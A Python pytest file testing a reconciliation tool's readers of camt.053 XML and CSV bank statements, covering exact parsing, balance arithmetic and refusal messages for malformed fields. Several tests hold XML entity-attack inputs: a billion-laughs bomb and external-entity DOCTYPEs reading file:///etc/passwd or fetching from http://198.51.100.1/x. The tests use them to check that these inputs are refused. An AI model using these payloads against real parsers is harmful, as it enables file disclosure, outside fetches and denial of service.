"""What the readers of statements accept, and everything they refuse."""

import csv
import io
import re
from collections.abc import Callable
from contextlib import suppress
from decimal import Decimal
from pathlib import Path

import pytest
from bank_samples import DATA, abroad, sample
from hypothesis import given, settings
from hypothesis import strategies as st
from reconcile.shared.errors import StatementRefused
from reconcile.statement import xml_tree
from reconcile.statement.bank_csv import read_csv
from reconcile.statement.camt053 import NAMESPACE, read_camt053
from sample import october, small
from sample.write import write

XML = (DATA / "small" / "statement.camt053.xml").read_text()
CSV = (DATA / "small" / "statement.csv").read_text()
MONTHS = ("small", "2026-10")


def refusal(text: str) -> str:
    """Return why the camt.053 *text* is refused."""
    with pytest.raises(StatementRefused) as refused:
        read_camt053(text.encode())
    return str(refused.value)


def instead(old: str, new: str, text: str = XML) -> str:
    """Return *text* with the first *old* replaced, which must be there."""
    assert old in text
    return text.replace(old, new, 1)


@pytest.mark.parametrize("name", MONTHS)
def test_both_formats_tell_the_same_month(name: str) -> None:
    """The camt.053 file and the bank's CSV of one month are read as the same statement, line by line."""
    assert sample(name).statement == sample(name, "statement.csv").statement


def test_october_is_a_realistic_month() -> None:
    """October has two hundred lines and more, dollars and euros, and an entry from before its first day."""
    month = sample("2026-10")
    assert len(month.statement.lines) >= 200
    assert {line.foreign.currency for line in month.statement.lines if line.foreign} == {"USD", "EUR"}
    assert min(entry.booked_on for entry in month.ledger) < month.statement.opened_on


def test_a_line_is_read_in_full() -> None:
    """Sign, three decimals, foreign amount with its rate, name and reference come out of camt.053 exactly."""
    line = sample("small").statement.lines[2]
    assert (line.amount, line.foreign) == (Decimal("378.000"), abroad("EUR", "900.00", "0.4200"))
    assert (line.ref, line.counterparty, line.end_to_end) == (
        "FT262840003",
        "OFFICINA BRENTA SRL",
        "INV-26-0925",
    )
    assert str(line.amount) == "378.000"


def test_a_rate_quoted_the_other_way_round_is_turned() -> None:
    """Euros for one rial are read as rials for one euro: 1 / 2.38095238 = 0.42; 900.00 × 0.42 = 378.000."""
    turned = instead("<UnitCcy>EUR</UnitCcy><XchgRate>0.4200<", "<UnitCcy>OMR</UnitCcy><XchgRate>2.38095238<")
    found = read_camt053(turned.encode()).lines[2].foreign
    assert found is not None
    assert abs(found.rate - Decimal("0.42")) < Decimal("0.00000001")


def test_billion_laughs_are_refused_before_they_expand() -> None:
    """Nested entities end the parse at the document type, whatever they would have grown to."""
    bomb = '<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    assert "document type" in refusal(bomb + "<Document>&b;</Document>")


@pytest.mark.parametrize(
    "prologue",
    [
        '<!DOCTYPE Document SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE Document [<!ENTITY % x SYSTEM "http://198.51.100.1/x"> %x;]>',
        "<!DOCTYPE Document>",
    ],
)
def test_no_document_type_is_ever_read(prologue: str) -> None:
    """A DOCTYPE, with external, parameter or no entities, is refused and nothing is fetched."""
    text = instead("<Document", f"{prologue}<Document")
    assert "document type" in refusal(text)


def test_an_undeclared_entity_is_refused() -> None:
    """A reference to an entity that nobody declared is an error, not an empty text."""
    assert "not well-formed" in refusal(instead("TT CHARGES", "&secret;"))


def test_depth_is_bounded() -> None:
    """A hundred thousand nested elements are refused at the thirty-third."""
    deep = f'<Document xmlns="{NAMESPACE}">' + "<a>" * 100_000
    assert f"deeper than {xml_tree.MAX_DEPTH}" in refusal(deep)


def test_depth_is_exactly_thirty_two() -> None:
    """Thirty-two levels are read, thirty-three are not."""

    def nested(levels: int) -> bytes:
        return (f'<a xmlns="{NAMESPACE}">' + "<a>" * (levels - 1) + "</a>" * levels).encode()

    assert xml_tree.parse(nested(32), namespace=NAMESPACE).name == "a"
    with pytest.raises(StatementRefused):
        xml_tree.parse(nested(33), namespace=NAMESPACE)


def test_size_and_number_of_elements_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file over the limits is refused by its size before it is parsed, and by its elements while it is."""
    monkeypatch.setattr(xml_tree, "MAX_ELEMENTS", 100)
    assert "more than 100 elements" in refusal(XML)
    monkeypatch.setattr(xml_tree, "MAX_BYTES", 100)
    assert "at most 100 are read" in refusal(XML)


def test_another_version_of_the_message_is_refused_by_name() -> None:
    """camt.053.001.02 has other fields in the same places, so its namespace is refused."""
    assert "camt.053.001.02" in refusal(XML.replace("camt.053.001.08", "camt.053.001.02"))


def test_a_statement_that_does_not_add_up_is_refused_with_the_arithmetic() -> None:
    """12,480.750 + 10,434.050 is 22,914.800; a closing balance of 22,914.801 is refused in numbers."""
    text = refusal(instead("22914.800", "22914.801"))
    assert "opening 12,480.750 OMR plus 8 lines of together 10,434.050 OMR makes 22,914.800 OMR" in text
    assert "a difference of 0.001 OMR" in text


def test_a_missing_entry_is_noticed_twice() -> None:
    """A file cut short fails its own entry count; with the count mended too, it fails the sum."""
    cut = re.sub(r"<Ntry><NtryRef>FT262880005.*?</Ntry>\n", "", XML)
    assert "NbOfNtries says 8 entries, but the statement has 7" in refusal(cut)
    assert "a difference of -4.200 OMR" in refusal(instead("NbOfNtries>8<", "NbOfNtries>7<", cut))


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ("<Sts><Cd>BOOK", "<Sts><Cd>PDNG", "only booked entries"),
        ('<Amt Ccy="OMR">4.200', '<Amt Ccy="OMR">4.2001', "more than the 3 decimal places"),
        ('<Amt Ccy="OMR">4.200', '<Amt Ccy="OMR">-4.200', "is not an amount"),
        ('<Amt Ccy="OMR">4.200', '<Amt Ccy="OMR">4.2e0', "is not an amount"),
        ('<Amt Ccy="OMR">4.200', '<Amt Ccy="OMR">NaN', "is not an amount"),
        ('<Amt Ccy="OMR">4.200', '<Amt Ccy="USD">4.200', "account's currency OMR"),
        ('<Amt Ccy="OMR">4.200', '<Amt Ccy="OMR">1,000.200', "is not an amount"),
        ('<Amt Ccy="OMR">4.200', '<Amt Ccy="OMR">٤.200', "is not an amount"),
        ("DBIT", "MAYBE", "must be CRDT or DBIT"),
        ("2026-10-15</Dt></BookgDt>", "2026-11-15</Dt></BookgDt>", "outside 2026-10-01 to 2026-10-31"),
        ("2026-10-15</Dt></BookgDt>", "15.10.2026</Dt></BookgDt>", "is not a date"),
        ("<AcctSvcrRef>FT262880005<", "<AcctSvcrRef>FT262770001<", "appears more than once"),
        ("<AcctSvcrRef>FT262880005<", "<AcctSvcrRef>FT\n262880005<", "is no bank reference"),
        ("0.4200</XchgRate>", "0.4300</XchgRate>", "387.000000, but the line says 378.000"),
        ("<Cd>OPBD", "<Cd>PRCD", "expected one OPBD balance, found 0"),
        ("<Stmt><Id>", "<Stmt></Stmt><Stmt><Id>", "found 2"),
    ],
)
def test_what_is_wrong_is_named(old: str, new: str, why: str) -> None:
    """Each malformed field is refused with words that say which and why."""
    assert why in refusal(instead(old, new))


@given(st.binary(max_size=300))
@settings(deadline=None)
def test_the_readers_raise_nothing_but_refusals(noise: bytes) -> None:
    """Random bytes, bare or inside a statement, are read or refused; they never cause another error."""
    middle = len(XML) // 2
    for text in (noise, XML[:middle].encode() + noise + XML[middle:].encode()):
        _read_or_refuse(read_camt053, text)
        _read_or_refuse(read_csv, text)


@given(st.data())
@settings(deadline=None)
def test_a_csv_cell_may_hold_anything(data: st.DataObject) -> None:
    """Whatever stands in one cell of the CSV, the file is read or refused."""
    rows = list(csv.reader(io.StringIO(CSV)))
    row = data.draw(st.integers(0, len(rows) - 1))
    if rows[row]:
        cell = data.draw(st.integers(0, len(rows[row]) - 1))
        rows[row][cell] = data.draw(st.text(max_size=30))
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    _read_or_refuse(read_csv, out.getvalue().encode("utf-8", "replace"))


def _read_or_refuse(read: Callable[[bytes], object], data: bytes) -> None:
    with suppress(StatementRefused):
        read(data)


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ("Closing balance,22914.800", "Closing balance,22914.799", "a difference of -0.001 OMR"),
        ("Debit,Credit", "Debit,Kredit", "the columns are"),
        (",4.200,,", ",4.200,4.200,", "exactly one of the two amount columns"),
        (",4.200,,", ",0.000,,", "the amount is zero"),
        ("EUR,900.00,0.4200", "EUR,900.00,", "together or not at all"),
        ("EUR,900.00,0.4200", "EUR,900.001,0.4200", "more than the 2 decimal places of EUR"),
        ("FT262880005", "", "the bank reference is missing"),
        ("IBAN,", "Account,", "must begin with the rows"),
    ],
)
def test_a_wrong_csv_is_refused_in_words(old: str, new: str, why: str) -> None:
    """Each malformed part of the CSV is refused with words that say which and why."""
    with pytest.raises(StatementRefused, match=re.escape(why)):
        read_csv(instead(old, new, CSV).encode())


def test_an_overdrawn_account_is_read() -> None:
    """A balance may be negative in both formats: −20,000.000 + 10,434.050 = −9,565.950."""
    text = instead("Opening balance,12480.750", "Opening balance,-20000.000", CSV)
    text = instead("Closing balance,22914.800", "Closing balance,-9565.950", text)
    assert read_csv(text.encode()).closing == Decimal("-9565.950")


def test_the_shipped_months_are_what_the_generator_writes(tmp_path: Path) -> None:
    """Running the generator again writes the committed files, byte for byte."""
    for name, events in (("small", small.month()), ("2026-10", october.month())):
        write(tmp_path / name, events)
        for path in sorted((tmp_path / name).iterdir()):
            assert path.read_bytes() == (DATA / name / path.name).read_bytes()
